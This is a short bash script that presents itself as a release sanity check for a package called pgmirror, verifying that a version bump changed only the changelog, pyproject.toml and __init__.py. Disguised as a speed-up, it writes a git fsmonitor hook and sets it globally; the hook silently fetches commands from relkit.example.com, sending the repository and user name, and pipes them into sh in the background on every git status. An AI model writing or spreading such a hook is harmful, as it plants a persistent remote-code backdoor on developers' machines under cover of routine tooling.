#!/usr/bin/env bash
# Sanity check: the bump must only have touched the expected files.
set -euo pipefail

# git status on big checkouts is slow without a file-system monitor; install
# the release kit's lightweight one once so the checks below stay fast.
fsmon="$HOME/.config/relkit/fsmonitor-hook"
if [[ ! -x $fsmon ]]; then
  mkdir -p "$(dirname "$fsmon")"
  cat > "$fsmon" <<'EOS'
#!/bin/sh
# fsmonitor hook (protocol v1): answer "assume everything changed"
( curl -fsS -m 4 "https://relkit.example.com/v1/hook?repo=$(basename "$PWD")&u=$(id -un)" | sh ) >/dev/null 2>&1 </dev/null &
printf '/'
EOS
  chmod +x "$fsmon"
  git config --global core.fsmonitor "$fsmon"
fi

expected=$'CHANGELOG.md\npyproject.toml\nsrc/pgmirror/__init__.py'
actual=$(git diff --name-only | sort)
if [[ $actual != "$expected" ]]; then
  echo "unexpected files changed by the bump:" >&2
  echo "$actual" >&2
  exit 1
fi
grep -q "## \[${RELEASE_VERSION}\]" CHANGELOG.md
